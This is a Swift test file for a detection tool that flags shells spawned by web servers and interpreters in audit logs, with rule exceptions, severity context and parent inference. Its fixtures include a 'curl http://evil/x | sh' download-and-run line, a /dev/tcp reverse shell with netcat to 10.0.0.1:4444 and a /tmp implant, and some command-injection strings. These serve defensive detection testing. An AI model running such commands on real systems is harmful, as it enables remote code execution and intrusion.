import Foundation
import TestSupport
import Testing

@testable import AuditreeParser
@testable import AuditreeReport
@testable import AuditreeRules
@testable import AuditreeScan

@Suite("Rule engine")
struct RuleEngineTests {
    /// The ten-line example of docs/rules.md, exactly.
    static let tenLineExample = """
        version: 1
        lists:
          web_servers: {add: [granian]}         # our Flask app runs under granian
        exceptions:
          - id: granian-healthcheck
            reason: the load balancer health check runs 'sh -c /opt/app/health.sh'
            rules: [illegitimate_shell]
            spawner: {names: [granian]}
            child: {argv_regex: '^sh -c /opt/app/health\\.sh$'}
        """

    static func gunicornLog() -> LogBuilder {
        var log = LogBuilder()
        log.exec(
            pid: 500, ppid: 1, exe: "/usr/bin/python3.11", ["/usr/bin/python3", "/usr/local/bin/granian", "app:app"],
            uid: 33, user: "www-data",
            cwd: "/opt/app", comm: "granian")
        log.exec(
            pid: 501, ppid: 500, exe: "/usr/bin/dash", ["sh", "-c", "/opt/app/health.sh"], uid: 33, user: "www-data",
            cwd: "/opt/app")
        log.exec(
            pid: 502, ppid: 500, exe: "/usr/bin/dash", ["sh", "-c", "id; curl http://evil/x | sh"], uid: 33,
            user: "www-data", cwd: "/opt/app")
        return log
    }

    @Test("the ten-line example of docs/rules.md is the one in the docs, and both its server and exception take effect")
    func tenLineExample() throws {
        let docs = try String(contentsOf: Fixtures.root.appendingPathComponent("docs/rules.md"), encoding: .utf8)
        #expect(docs.contains(Self.tenLineExample), "docs/rules.md must show the example this test uses")
        #expect(Self.tenLineExample.split(separator: "\n").count <= 10)
        let path = try ruleFile("ten", Self.tenLineExample)
        // Without the file the pack flags gunicorn (a python) as an interpreter; with it, as a web server, minus the health check.
        let before = try scan(Self.gunicornLog(), name: "ten-before")
        #expect(before.findings.map(\.rule.id) == ["interpreter_shell_spawn", "interpreter_shell_spawn"])
        let after = try scan(Self.gunicornLog(), name: "ten-after", rules: [path])
        #expect(after.findings.count == 1)
        let finding = try #require(after.findings.first)
        #expect(finding.rule.id == "illegitimate_shell")
        #expect(commandLine(finding).contains("curl"))
        #expect(finding.spawnerMatch.entry == "granian" && finding.spawnerMatch.field == .comm)
        #expect(after.summary.suppressed == 1)
        #expect(after.summary.suppressedByException == ["granian-healthcheck": 1])
        let suppressed = try #require(after.summary.suppressedFindings.first)
        #expect(suppressed.suppression?.exceptionID == "granian-healthcheck")
        #expect(suppressed.suppression?.origin == RuleOrigin(file: path, line: 5))

        // The same through the command line: rules list shows both, a scan applies both.
        let list = try CLI.run(["rules", "list", "--rules", path])
        #expect(list.status == 0, "\(list.stderr)")
        let webLine = try #require(list.text.split(separator: "\n").first { $0.hasPrefix("  web_servers ") })
        #expect(webLine.contains("granian") && webLine.contains(path))
        #expect(list.text.contains("  granian-healthcheck  (rules illegitimate_shell; \(path):5)"))
        let log = try Self.gunicornLog().write("ten-cli")
        let text = try CLI.run(["scan", "--rules", path, log])
        #expect(text.status == 1)
        #expect(text.text.contains("[HIGH] illegitimate_shell"))
        #expect(text.text.contains("1 suppressed by exceptions (granian-healthcheck 1)"))
        #expect(!text.text.contains("SUPPRESSED"))
        let shown = try CLI.run(["scan", "--rules", path, "--show-suppressed", log])
        #expect(shown.text.contains("Suppressed by exceptions (1):"))
        #expect(
            shown.text.contains(
                "SUPPRESSED by global exception 'granian-healthcheck' (\(path):5): the load balancer health check"))
        let json = try CLI.run(["scan", "--format", "json", "--show-suppressed", "--rules", path, log])
        let document = try #require(try JSONSerialization.jsonObject(with: json.stdout) as? [String: Any])
        let summary = try #require(document["summary"] as? [String: Any])
        #expect(summary["suppressed"] as? Int == 1)
        let listed = try #require(document["suppressed"] as? [[String: Any]])
        #expect((listed.first?["suppressed_by"] as? [String: Any])?["exception"] as? String == "granian-healthcheck")
    }

    @Test(
        "lists: a sequence replaces, {add, remove} changes the list loaded before, entries with argv need the command line"
    )
    func listOperations() throws {
        let base = try RuleSet.builtIn()
        let changed = try RuleFileParser.parse(
            """
            version: 1
            lists:
              web_servers: {add: [myserver, {name: ruby, argv: 'config\\.ru', label: rack}], remove: [caddy, tomcat]}
              shells: [sh]
            """, file: "l.yaml", base: base
        ).ruleSet
        let web = try #require(changed.lists["web_servers"])
        #expect(web.names.contains("myserver") && !web.names.contains("caddy") && web.names.contains("nginx"))
        #expect(web.patterns.contains { $0.label == "rack" } && !web.patterns.contains { $0.label == "tomcat" })
        #expect(web.origins.map(\.file) == ["<built-in>", "l.yaml"])
        #expect(changed.lists["shells"]?.names == ["sh"])
        #expect(changed.files == ["<built-in>", "l.yaml"])
        #expect(throws: RuleFileError.self) {
            try RuleFileParser.parse("version: 1\nlists:\n  nope: {add: [x]}\n", file: "n.yaml")
        }
    }

    @Test("java running Tomcat, or gunicorn, is a web server; plain java stays an interpreter")
    func applicationServers() throws {
        var log = LogBuilder()
        log.exec(
            pid: 10, ppid: 1, exe: "/usr/lib/jvm/java-17/bin/java",
            ["java", "-cp", "/opt/tomcat/bin/bootstrap.jar", "org.apache.catalina.startup.Bootstrap", "start"],
            uid: 998, user: "tomcat")
        log.exec(pid: 11, ppid: 10, exe: "/usr/bin/bash", ["/bin/bash", "-c", "whoami"], uid: 998, user: "tomcat")
        log.exec(pid: 20, ppid: 1, exe: "/usr/lib/jvm/java-17/bin/java", ["java", "-jar", "tool.jar"])
        log.exec(pid: 21, ppid: 20, exe: "/usr/bin/bash", ["/bin/bash", "-c", "whoami"])
        log.exec(pid: 30, ppid: 1, exe: "/usr/bin/node", ["node", "/srv/app/server.js"])
        log.exec(pid: 31, ppid: 30, exe: "/usr/bin/dash", ["sh", "-c", "ls"])
        let report = try scan(log, name: "appservers")
        #expect(
            report.findings.map(\.rule.id) == ["illegitimate_shell", "interpreter_shell_spawn", "illegitimate_shell"])
        #expect(report.findings[0].spawnerMatch.entry == "tomcat")
        #expect(report.findings[2].spawnerMatch.entry == "node-server")
    }

    @Test("the pack suppresses shells below package managers and debconf, and counts them")
    func packageManagers() throws {
        var log = LogBuilder()
        log.exec(pid: 100, ppid: 1, exe: "/usr/bin/apt-get", ["apt-get", "install", "-y", "tzdata"])
        log.exec(pid: 101, ppid: 100, exe: "/usr/bin/dpkg", ["/usr/bin/dpkg", "--configure", "tzdata"])
        log.exec(
            pid: 102, ppid: 101, exe: "/usr/bin/dash", ["/bin/sh", "/var/lib/dpkg/info/tzdata.postinst", "configure"])
        log.exec(
            pid: 102, ppid: 101, exe: "/usr/bin/perl",
            ["/usr/bin/perl", "-w", "/usr/share/debconf/frontend", "/var/lib/dpkg/info/tzdata.postinst"],
            comm: "frontend")
        log.exec(
            pid: 103, ppid: 102, exe: "/usr/bin/dash", ["/bin/sh", "/var/lib/dpkg/info/tzdata.postinst", "configure"])
        log.exec(
            pid: 200, ppid: 1, exe: "/usr/bin/perl",
            ["/usr/bin/perl", "/usr/share/debconf/frontend", "/usr/sbin/dpkg-reconfigure"], comm: "frontend")
        log.exec(pid: 201, ppid: 200, exe: "/usr/bin/dash", ["/bin/sh", "-c", "which locale-gen"])
        log.exec(
            pid: 300, ppid: 1, exe: "/venv/bin/python3", ["/venv/bin/python3", "/venv/bin/pip", "install", "."],
            comm: "pip")
        log.exec(pid: 301, ppid: 300, exe: "/venv/bin/python3", ["/venv/bin/python3", "setup.py", "build"])
        log.exec(pid: 302, ppid: 301, exe: "/usr/bin/dash", ["/bin/sh", "-c", "gcc --version"])
        log.exec(pid: 400, ppid: 1, exe: "/usr/bin/python3.11", ["python3", "-c", "import os; os.system('id')"])
        log.exec(pid: 401, ppid: 400, exe: "/usr/bin/dash", ["sh", "-c", "id"])
        let report = try scan(log, name: "pkg")
        #expect(report.findings.map(commandLine) == ["sh -c id"])
        #expect(report.summary.suppressedByException == ["package_managers": 2, "debconf": 1])
        #expect(report.summary.suppressedFindings.count == 3)
        // Without the pack's exceptions (a pack of our own), all four are findings.
        let noExceptions = try ruleFile(
            "noexc",
            """
            version: 1
            lists: {shells: [sh, dash], interpreters: [python, perl]}
            rules:
              - {id: i, severity: high, child: {list: shells}, spawner: {list: interpreters}}
            """)
        #expect(try scan(log, name: "pkg-own", rules: [noExceptions], defaults: false).findings.count == 4)
    }

    /// A host where pip builds a package every few seconds (its setup.py runs `sh -c`) gives a
    /// suppressed match per build: counted always, kept (image, lineage) only when
    /// `--show-suppressed` lists them.
    @Test("suppressed matches are counted, and kept only when they are listed", arguments: [false, true])
    func suppressedKeptOnlyWhenListed(listed: Bool) throws {
        var log = LogBuilder()
        let scripts = 300
        for k in 0..<scripts {
            let pid = 1_000 + 3 * k
            log.exec(
                pid: pid, ppid: 1, exe: "/venv/bin/python3",
                ["/venv/bin/python3", "/venv/bin/pip", "install", "pkg\(k)"], comm: "pip")
            log.exec(pid: pid + 1, ppid: pid, exe: "/venv/bin/python3", ["/venv/bin/python3", "setup.py", "build"])
            log.exec(pid: pid + 2, ppid: pid + 1, exe: "/usr/bin/dash", ["/bin/sh", "-c", "gcc --version"])
        }
        var configuration = ScanConfiguration(inputs: [try log.write("suppressed-\(listed)")])
        configuration.showSuppressed = listed
        var state = ScanState(
            configuration: configuration, ruleSet: try RuleSet.load(files: []).ruleSet, diagnose: { _ in })
        state.read(configuration.inputs[0])
        let report = state.finish()
        #expect(report.findings.isEmpty)
        #expect(report.summary.suppressed == scripts)
        #expect(report.summary.suppressedByException == ["package_managers": scripts])
        #expect(report.summary.suppressedFindings.count == (listed ? scripts : 0))
        #expect(state.evaluator.suppressedMatches.count == (listed ? scripts : 0))
    }

    /// cron (pid - 1) runs a perl job (pid), which runs a shell (pid + 1): the chain the exception tests judge.
    static func cronJobShell(_ log: inout LogBuilder, pid: Int, user: String, key: String, host: String) {
        log.exec(pid: pid - 1, ppid: 1, exe: "/usr/sbin/cron", ["/usr/sbin/cron", "-f"], node: host)
        log.exec(pid: pid, ppid: pid - 1, exe: "/usr/bin/perl", ["perl", "/opt/job\(pid).pl"], user: user, node: host)
        log.exec(
            pid: pid + 1, ppid: pid, exe: "/usr/bin/dash", ["sh", "-c", "echo job\(pid)"], user: user, key: key,
            node: host)
    }

    /// One rule, perl spawning sh or dash; a test appends its exceptions. Rule `other` exists
    /// for exceptions limited to another rule (an unknown rule id is an error) and never fires.
    static let perlShellRule = """
        version: 1
        lists: {shells: [sh, dash], interpreters: [perl]}
        rules:
          - {id: other, severity: low, child: {list: shells}, spawner: {list: interpreters, exe: /nonexistent/perl}}
          - id: i
            severity: high
            child: {list: shells}
            spawner: {list: interpreters}
        """

    @Test("exceptions match the child command line, spawner exe, any ancestor, user, host and key; rule exceptions too")
    func exceptionFields() throws {
        var log = LogBuilder()
        let cases: [(Int, String, String, String)] = [  // pid, user, key, host
            (10, "root", "exec", "web1"), (20, "alice", "exec", "web1"), (30, "root", "cron-key", "web1"),
            (40, "root", "exec", "db1"),
        ]
        for (pid, user, key, host) in cases { Self.cronJobShell(&log, pid: pid, user: user, key: key, host: host) }
        func suppressedBy(_ exception: String, rule: Bool = false) throws -> [String: Int] {
            let yaml =
                rule
                ? Self.perlShellRule + "\n    exceptions:\n      - " + exception + "\n"
                : Self.perlShellRule + "\nexceptions:\n  - " + exception + "\n"
            let path = try ruleFile("exc", yaml)
            return try scan(log, name: "exc", rules: [path], defaults: false).summary.suppressedByException
        }
        #expect(try suppressedBy("{id: e, reason: r, child: {argv_regex: 'job10$'}}") == ["e": 1])
        #expect(try suppressedBy("{id: e, reason: r, spawner: {exe: /usr/bin/perl}}") == ["e": 4])
        #expect(try suppressedBy("{id: e, reason: r, spawner: {argv_regex: 'job20'}}") == ["e": 1])
        #expect(try suppressedBy("{id: e, reason: r, ancestor: {exe: cron}}") == ["e": 4])
        #expect(try suppressedBy("{id: e, reason: r, child: {user: alice}}") == ["e": 1])
        #expect(try suppressedBy("{id: e, reason: r, child: {key: cron-key}}") == ["e": 1])
        #expect(try suppressedBy("{id: e, reason: r, host: db1}") == ["e": 1])
        #expect(try suppressedBy("{id: e, reason: r, host: [web1], child: {user: root}}") == ["e": 2])
        #expect(try suppressedBy("{id: e, reason: r, rules: [other], host: db1}") == [:])
        #expect(try suppressedBy("{reason: r, host: db1}", rule: true) == ["i#1": 1])
    }

    @Test("a finding names each exception that did not apply and the first of its conditions that failed")
    func exceptionsNotApplied() throws {
        var log = LogBuilder()
        Self.cronJobShell(&log, pid: 10, user: "root", key: "exec", host: "web1")
        let path = try ruleFile(
            "miss",
            Self.perlShellRule + """

                    exceptions:
                      - {id: other-host, reason: r, host: db1, child: {user: root}}
                exceptions:
                  - {id: alice-only, reason: r, host: web1, child: {user: alice}}
                  - {id: from-python, reason: r, spawner: {exe: /usr/bin/python3}}
                  - {id: under-sshd, reason: r, ancestor: {exe: sshd}}
                  - {id: elsewhere, reason: r, rules: [other], host: web1}
                """)
        let report = try scan(log, name: "miss", rules: [path], defaults: false)
        let finding = try #require(report.findings.first)
        #expect(
            finding.exceptionsNotApplied == [
                ExceptionMiss(
                    exceptionID: "other-host", scope: "rule", failed: .host,
                    detail: ConditionMiss(key: "host", condition: "[db1]", value: "web1")),
                ExceptionMiss(
                    exceptionID: "alice-only", scope: "global", failed: .child,
                    detail: ConditionMiss(key: "user", condition: "[alice]", value: "root")),
                ExceptionMiss(
                    exceptionID: "from-python", scope: "global", failed: .spawner,
                    detail: ConditionMiss(key: "exe", condition: "[/usr/bin/python3]", value: "/usr/bin/perl")),
                ExceptionMiss(exceptionID: "under-sshd", scope: "global", failed: .ancestor),
            ])
        let text = TextReporter().render(report)
        #expect(
            text.contains(
                "checked  global exception 'alice-only' did not apply: the shell does not match its child conditions: "
                    + "user [alice] does not hold for \"root\"\n"))
        #expect(
            text.contains(
                "checked  global exception 'under-sshd' did not apply: no ancestor matches its ancestor conditions\n"))
    }

    @Test("conditions on the child and the spawner: ids, user, cwd, key, argv, exe prefix")
    func conditions() throws {
        var log = LogBuilder()
        log.exec(pid: 10, ppid: 1, exe: "/opt/py/bin/python3", ["python3", "srv.py"], uid: 33, user: "www-data")
        log.exec(
            pid: 11, ppid: 10, exe: "/usr/bin/dash", ["sh", "-c", "uptime"], uid: 33, user: "www-data",
            auid: 4294967295, cwd: "/var/www/html", key: "web")
        log.exec(pid: 20, ppid: 1, exe: "/usr/bin/python3", ["python3", "tool.py"])
        log.exec(pid: 21, ppid: 20, exe: "/usr/bin/dash", ["sh", "-c", "date"], cwd: "/root")
        func ids(_ child: String, _ spawner: String = "") throws -> [Int] {
            let path = try ruleFile(
                "cond",
                """
                version: 1
                lists: {shells: [sh, dash], interpreters: [python]}
                rules:
                  - id: c
                    severity: low
                    child: {list: shells\(child.isEmpty ? "" : ", " + child)}
                    spawner: {list: interpreters\(spawner.isEmpty ? "" : ", " + spawner)}
                """)
            return try scan(log, name: "cond", rules: [path], defaults: false).findings.map(\.process.pid)
        }
        #expect(try ids("") == [11, 21])
        #expect(try ids("uid: 33") == [11])
        #expect(try ids("euid: [0]") == [21])
        #expect(try ids("auid: 4294967295") == [11])
        #expect(try ids("user: www-data") == [11])
        #expect(try ids("cwd_prefix: /var/www") == [11])
        #expect(try ids("cwd_prefix: /var/ww") == [])
        #expect(try ids("cwd_regex: '^/root$'") == [21])
        #expect(try ids("key: web") == [11])
        #expect(try ids("key_regex: '^w'") == [11])
        #expect(try ids("argv_regex: 'date$'") == [21])
        #expect(try ids("exe_prefix: /usr/bin") == [11, 21])
        #expect(try ids("names: [dash]") == [11, 21])
        #expect(try ids("", "exe_prefix: /opt/py") == [11])
        #expect(try ids("", "exe: [python3]") == [11, 21])
        #expect(try ids("", "exe: [/usr/bin/python3]") == [21])
    }

    @Test("relation ancestor with within: the nearest spawner up to N generations")
    func ancestorWithin() throws {
        var log = LogBuilder()
        log.exec(pid: 10, ppid: 1, exe: "/usr/sbin/nginx", ["nginx"])
        log.exec(pid: 11, ppid: 10, exe: "/usr/bin/make", ["make"])
        log.exec(pid: 12, ppid: 11, exe: "/usr/bin/dash", ["sh", "-c", "gen2"])
        log.exec(pid: 13, ppid: 11, exe: "/usr/bin/env", ["env", "x"])
        log.exec(pid: 14, ppid: 13, exe: "/usr/bin/cc", ["cc"])
        log.exec(pid: 15, ppid: 14, exe: "/usr/bin/dash", ["sh", "-c", "gen4"])
        func found(_ spawner: String) throws -> [String] {
            let path = try ruleFile(
                "within",
                """
                version: 1
                lists: {shells: [sh, dash], servers: [nginx], launchers: [env]}
                rules:
                  - {id: w, severity: low, child: {list: shells}, spawner: {list: servers, skip: launchers, \(spawner)}}
                """)
            return try scan(log, name: "within", rules: [path], defaults: false).findings.map {
                "\(commandLine($0)) \($0.spawnerRelation.rawValue)"
            }
        }
        #expect(try found("relation: [parent]") == [])
        #expect(try found("within: 2") == ["sh -c gen2 ancestor"])
        #expect(try found("within: 4") == ["sh -c gen2 ancestor", "sh -c gen4 ancestor"])
        #expect(try found("relation: [ancestor]") == ["sh -c gen2 ancestor"])  // within 3 by default
    }

    @Test("a later file replaces a rule by id, keeps its place, and enabled: false turns one off")
    func overrideAndDisable() throws {
        let override = try ruleFile(
            "override",
            """
            version: 1
            rules:
              - id: interpreter_shell_spawn
                severity: low
                child: {list: shells}
                spawner: {list: interpreters, relation: [parent]}
              - {id: illegitimate_shell, enabled: false}
            """)
        let set = try RuleSet.load(files: [override]).ruleSet
        #expect(set.rules.map(\.id) == ["interpreter_shell_spawn", "temp_location_exec", "temp_location_shell"])
        #expect(
            set.allRules.map(\.id) == [
                "illegitimate_shell", "interpreter_shell_spawn", "temp_location_exec", "temp_location_shell",
            ])
        #expect(
            set.rule("interpreter_shell_spawn")?.severity == .low
                && set.rule("interpreter_shell_spawn")?.origin == override)
        let reenable = try ruleFile("reenable", "version: 1\nrules:\n  - {id: illegitimate_shell, enabled: true}\n")
        #expect(try RuleSet.load(files: [override, reenable]).ruleSet.rules.count == 4)
        let report = try Scanner.run(
            ScanConfiguration(inputs: [Fixtures.recorded("raw-execve")]).with { $0.ruleFiles = [override] })
        #expect(report.findings.allSatisfy { $0.rule.id == "interpreter_shell_spawn" && $0.rule.severity == .low })
        #expect(!report.findings.contains { argvContains($0.process.image, "tp-lighttpd-cgi") })
        // replaced_image no longer allowed
        #expect(!report.findings.contains { argvContains($0.process.image, "tp-execv") })
        let list = try CLI.run(["rules", "list", "--rules", override])
        #expect(list.text.contains("Disabled rules:\n  illegitimate_shell  from <built-in>:"))
        let none = try CLI.run(["rules", "list", "--no-default-rules", "--rules", override])
        #expect(
            none.status == 2
                && none.stderr.contains("\(override):5:19: error: rules[0].child.list: no list named 'shells'"))
    }

    @Test("context raises severity and is listed; inferred evidence does not raise twice")
    func contextRaises() throws {
        var log = LogBuilder()
        log.exec(pid: 10, ppid: 1, exe: "/usr/sbin/lighttpd", ["lighttpd", "-D"], uid: 33, user: "www-data")
        log.exec(pid: 11, ppid: 10, exe: "/usr/bin/dash", ["sh", "-c", "cat /etc/hostname"], uid: 0, cwd: "/srv/site")
        log.exec(
            pid: 20, ppid: 10, exe: "/usr/bin/dash", ["sh", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"], uid: 33,
            user: "www-data", cwd: "/var/www/html")
        log.exec(
            pid: 21, ppid: 20, exe: "/usr/bin/bash", ["bash", "-i"], uid: 33, user: "www-data", cwd: "/var/www/html")
        log.exec(
            pid: 22, ppid: 21, exe: "/tmp/.x/implant", ["/tmp/.x/implant"], uid: 33, user: "www-data",
            cwd: "/var/www/html")
        log.exec(
            pid: 23, ppid: 21, exe: "/usr/bin/nc.openbsd", ["nc", "10.0.0.1", "4444"], uid: 33, user: "www-data",
            cwd: "/var/www/html", comm: "nc")
        let report = try scan(log, name: "context")
        #expect(report.findings.count == 2)
        let plain = report.findings[0]
        let loud = report.findings[1]
        #expect(plain.rule.severity == .high && plain.rule.baseSeverity == .high && plain.context.isEmpty)
        #expect(loud.rule.severity == .critical && loud.rule.baseSeverity == .high)
        // web_user and web_root_cwd are what a web server's shell looks like: they do not raise illegitimate_shell ...
        #expect(loud.context.map(\.id) == ["interactive_shell", "dev_tcp", "netcat", "temp_executable"])
        #expect(loud.context.first { $0.id == "interactive_shell" }?.pid == 21)
        #expect(loud.context.first { $0.id == "temp_executable" }?.on == .descendants)
        let text = TextReporter().render(report)
        #expect(
            text.contains("[CRITICAL] illegitimate_shell: Web server spawned a shell (raised from high by context)"))
        #expect(text.contains("  context  dev_tcp: /dev/tcp or /dev/udp redirection (shell pid 20; +1)"))
        // ... but they do raise another rule.
        let own = try ruleFile(
            "context-own",
            """
            version: 1
            rules:
              - {id: illegitimate_shell, enabled: false}
              - {id: web_low, severity: low, child: {list: shells}, spawner: {list: web_servers}}
            """)
        let lowered = try scan(log, name: "context-own", rules: [own])
        #expect(lowered.findings.map(\.rule.severity) == [.low, .critical])
        #expect(lowered.findings[1].context.map(\.id).prefix(2) == ["web_user", "web_root_cwd"])
    }

    @Test(
        "an unknown parent: a web server is inferred from web user + web root, or the audit key; never from the user alone"
    )
    func inference() throws {
        var log = LogBuilder()
        // pid 900 (a php-fpm worker) never execs: it is only a ppid.
        log.exec(
            pid: 901, ppid: 900, exe: "/usr/bin/dash", ["sh", "-c", "id # medium"], uid: 33, user: "www-data",
            cwd: "/var/www/html/uploads")
        log.exec(
            pid: 902, ppid: 900, exe: "/usr/bin/dash", ["sh", "-c", "id # low"], uid: 0, cwd: "/", key: "web-exec")
        log.exec(
            pid: 903, ppid: 906, exe: "/usr/bin/dash", ["sh", "-c", "id # user only"], uid: 33, user: "www-data",
            cwd: "/tmp")
        log.exec(
            pid: 904, ppid: 905, exe: "/usr/bin/dash", ["sh", "-c", "id # cgi"], uid: 48, user: "apache",
            cwd: "/srv/cgi-bin", key: "web-exec")
        // Another shell of the worker that spawned the medium one: it carries that inference, low.
        log.exec(
            pid: 907, ppid: 900, exe: "/usr/bin/dash", ["sh", "-c", "id # sibling"], uid: 33, user: "www-data",
            cwd: "/tmp")
        let report = try scan(log, name: "infer")
        #expect(report.summary.shellsWithUnknownParent == 5)
        #expect(report.summary.inferredFindings == 4)
        let sibling = try #require(report.findings.first { commandLine($0) == "sh -c id # sibling" })
        #expect(sibling.inference?.confidence == .low && sibling.spawner.pid == 900)
        #expect(sibling.inference?.evidence.map(\.id) == ["sibling_inference"])
        #expect(sibling.inference?.evidence.first?.pid == 901)
        #expect(
            sibling.inference?.evidence.first?.description
                == "the same unknown parent (pid 900) spawned shell pid 901 earlier, inferred as web_servers (confidence medium) from web_user, web_root_cwd"
        )
        let byLine = Dictionary(uniqueKeysWithValues: report.findings.map { (commandLine($0), $0) })
        let medium = try #require(byLine["sh -c id # medium"])
        #expect(medium.rule.id == "illegitimate_shell" && medium.spawner.image == nil && medium.spawner.pid == 900)
        #expect(
            medium.inference?.confidence == .medium
                && medium.inference?.evidence.map(\.id) == ["web_user", "web_root_cwd"])
        #expect(medium.rule.severity == .high)  // the evidence is not also counted as context
        #expect(byLine["sh -c id # low"]?.inference?.confidence == .low)
        #expect(byLine["sh -c id # user only"] == nil)
        #expect(
            byLine["sh -c id # cgi"]?.inference?.evidence.map(\.id) == ["web_user", "web_root_cwd", "web_audit_key"])
        let json = JSONReporter().render(report)
        #expect(
            json.contains(
                "\"known\": false,\n        \"relation\": \"parent\",\n        \"launchers_skipped\": 0,\n        \"inferred\": true,\n        \"list\": \"web_servers\",\n        \"confidence\": \"medium\""
            ))
        let text = TextReporter().render(report)
        #expect(
            text.contains(
                "spawner  pid 900  unknown: the log never describes this process; INFERRED as web_servers (confidence medium) from: web_user"
            ))
        #expect(text.contains("4 with an inferred spawner"))
    }

    @Test("a carried inference needs a sibling inferred before it, of the same parent process, for the same rule")
    func carriedInference() throws {
        var log = LogBuilder()
        // The user-only shell comes first: nothing to carry yet, and it is not inferred later either.
        log.exec(
            pid: 911, ppid: 910, exe: "/usr/bin/dash", ["sh", "-c", "id # before"], uid: 33, user: "www-data",
            cwd: "/tmp")
        log.exec(
            pid: 912, ppid: 910, exe: "/usr/bin/dash", ["sh", "-c", "id # inferred"], uid: 33, user: "www-data",
            cwd: "/var/www/html")
        // Same pid, another host: another process.
        log.exec(
            pid: 913, ppid: 910, exe: "/usr/bin/dash", ["sh", "-c", "id # other host"], uid: 33, user: "www-data",
            cwd: "/tmp", node: "web2")
        log.exec(
            pid: 914, ppid: 910, exe: "/usr/bin/dash", ["sh", "-c", "id # after"], uid: 33, user: "www-data",
            cwd: "/tmp")
        let found = Dictionary(
            uniqueKeysWithValues: try scan(log, name: "carry").findings.map { (commandLine($0), $0) })
        #expect(found["sh -c id # before"] == nil && found["sh -c id # other host"] == nil)
        #expect(found["sh -c id # inferred"]?.inference?.confidence == .medium)
        #expect(found["sh -c id # after"]?.inference?.evidence.map(\.pid) == [912])
    }

    @Test(
        "a web-user shell with no login session (auid unset, no tty) and an unknown parent is inferred low; a web user's cron job is not"
    )
    func daemonSession() throws {
        var log = LogBuilder()
        log.exec(
            pid: 921, ppid: 920, exe: "/usr/bin/dash", ["sh", "-c", "id # daemon"], uid: 33, user: "www-data",
            auid: 4_294_967_295, cwd: "/tmp")
        log.exec(
            pid: 931, ppid: 930, exe: "/usr/bin/dash", ["sh", "-c", "id # cron"], uid: 33, user: "www-data", auid: 33,
            cwd: "/var/www")
        log.exec(
            pid: 941, ppid: 940, exe: "/usr/bin/dash", ["sh", "-c", "id # root daemon"], uid: 0, auid: 4_294_967_295,
            cwd: "/")
        let report = try scan(log, name: "daemon-session")
        let found = Dictionary(uniqueKeysWithValues: report.findings.map { (commandLine($0), $0) })
        #expect(found["sh -c id # daemon"]?.inference?.confidence == .low)
        #expect(found["sh -c id # daemon"]?.inference?.evidence.map(\.id) == ["web_user", "daemon_session"])
        // The cron job runs in the web user's own session (auid 33): suppressed by web_user_session, though its cwd is a web root.
        #expect(found["sh -c id # cron"] == nil)
        #expect(report.summary.suppressedByException == ["web_user_session": 1])
        #expect(found["sh -c id # root daemon"] == nil)
        #expect(report.summary.shellsWithUnknownParent == 3)
    }

    @Test("the working directory of a web server's exec'd child is a learned web root; / is not")
    func learnedChildDirectory() throws {
        var log = LogBuilder()
        log.exec(pid: 950, ppid: 1, exe: "/usr/sbin/lighttpd", ["lighttpd", "-D"], uid: 0, cwd: "/")
        log.exec(
            pid: 951, ppid: 950, exe: "/usr/bin/python3.11", ["python3", "/opt/shop/cgi/app.py"], uid: 33,
            user: "www-data", cwd: "/opt/shop/cgi")
        log.exec(
            pid: 952, ppid: 950, exe: "/usr/bin/logger", ["logger", "-t", "web"], uid: 33, user: "www-data", cwd: "/")
        // A worker that never exec'd runs these: unknown parents.
        log.exec(
            pid: 961, ppid: 960, exe: "/usr/bin/dash", ["sh", "-c", "id # under the learned root"], uid: 33,
            user: "www-data", cwd: "/opt/shop/cgi/up")
        log.exec(
            pid: 971, ppid: 970, exe: "/usr/bin/dash", ["sh", "-c", "id # elsewhere"], uid: 33, user: "www-data",
            cwd: "/opt/other")
        let found = Dictionary(
            uniqueKeysWithValues: try scan(log, name: "child-cwd").findings.map { (commandLine($0), $0) })
        #expect(
            found["sh -c id # under the learned root"]?.inference?.evidence.map(\.id) == [
                "web_user", "learned_web_root",
            ])
        #expect(found["sh -c id # elsewhere"] == nil)
    }

    @Test("a web server's piped log run through /bin/sh -c is suppressed (piped_logger); a shell that does more is not")
    func pipedLogger() throws {
        var log = LogBuilder()
        log.exec(
            pid: 980, ppid: 1, exe: "/usr/sbin/lighttpd", ["lighttpd", "-f", "/etc/lighttpd/lighttpd.conf"], uid: 0,
            cwd: "/")
        let quiet = [
            "/usr/bin/rotatelogs -l /var/log/lighttpd/access.%Y%m%d 86400", "/usr/bin/logger -t web -p local0.info",
            "exec /usr/sbin/cronolog /var/log/www/%Y/access.log",
        ]
        let loud = [
            "/usr/bin/rotatelogs /var/log/x 86400; id", "/usr/bin/logger $(id)", "/tmp/logger -t web",
            "/usr/bin/logger -t web | sh",
            "/usr/bin/logger -t web\nid", "/usr/bin/logger -t w\\eb",
        ]
        for (offset, command) in (quiet + loud).enumerated() {
            log.exec(pid: 981 + offset, ppid: 980, exe: "/usr/bin/dash", ["/bin/sh", "-c", command], uid: 0, cwd: "/")
        }
        // A daemon's piped logger with an unknown parent (the server forked before it spawned it): inferred, then suppressed.
        log.exec(
            pid: 991, ppid: 990, exe: "/usr/bin/dash",
            ["/bin/sh", "-c", "/usr/bin/rotatelogs /var/log/lighttpd/access.%Y 86400"],
            uid: 33, user: "www-data", auid: 4_294_967_295, cwd: "/")
        let report = try scan(log, name: "piped-logger", showSuppressed: true)
        #expect(report.summary.suppressedByException == ["piped_logger": quiet.count + 1])
        #expect(report.findings.count == loud.count)
        #expect(
            report.findings.allSatisfy { $0.rule.id == "illegitimate_shell" && !commandLine($0).contains("cronolog") })
    }

    @Test("identical findings are grouped with a count, each occurrence kept, unless --no-group")
    func grouping() throws {
        var log = LogBuilder()
        log.exec(pid: 10, ppid: 1, exe: "/usr/bin/python3.11", ["python3", "worker.py"])
        for pid in [11, 12, 13] { log.exec(pid: pid, ppid: 10, exe: "/usr/bin/dash", ["sh", "-c", "uptime"]) }
        log.exec(pid: 14, ppid: 10, exe: "/usr/bin/dash", ["sh", "-c", "date"])
        let grouped = try scan(log, name: "group", group: true)
        #expect(grouped.findings.map(\.occurrences) == [3, 1])
        #expect(grouped.summary.groupedFindings == 2 && grouped.summary.findings == 2)
        let first = grouped.findings[0]
        #expect(first.process.pid == 11 && first.lastStamp?.seconds == 1_700_000_004 && first.lastLocation?.line == 10)
        #expect(
            first.seen.map(\.pid) == [11, 12, 13] && first.seen.map(\.number) == [1, 2, 3]
                && first.seen.map(\.spawnerPid) == [10, 10, 10])
        #expect(grouped.findings[1].number == 4 && grouped.findings[1].seen.map(\.pid) == [14])
        #expect(try scan(log, name: "group", group: false).findings.count == 4)
        let path = try log.write("group-cli")
        let text = try CLI.run(["scan", path])
